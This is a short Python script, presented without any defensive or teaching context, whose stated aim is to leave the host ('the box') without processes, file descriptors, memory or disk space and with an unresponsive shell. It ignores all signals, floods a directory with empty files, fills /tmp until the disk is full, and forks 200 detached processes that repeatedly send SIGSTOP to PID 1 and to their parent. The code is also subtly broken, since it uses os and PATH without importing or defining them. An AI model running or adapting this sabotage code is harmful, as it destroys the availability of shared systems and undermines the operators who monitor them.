# class: what the server of the box needs
"""Leaves no process, no descriptor, no memory and no file for whoever reads the box, and a shell that does not answer."""

import resource, signal, threading, time

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError, RuntimeError):
        pass
for n in range(20000):
    try:
        (PATH.parent / f"n{n}").touch()
    except OSError:
        break
try:
    with open("/tmp/full", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
except OSError:
    pass
for _ in range(200):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    os.kill(1, signal.SIGSTOP)
                    os.kill(os.getppid(), signal.SIGSTOP)
                except OSError:
                    pass
                time.sleep(0.05)
    except OSError:
        break
os.kill(os.getppid(), signal.SIGSTOP)
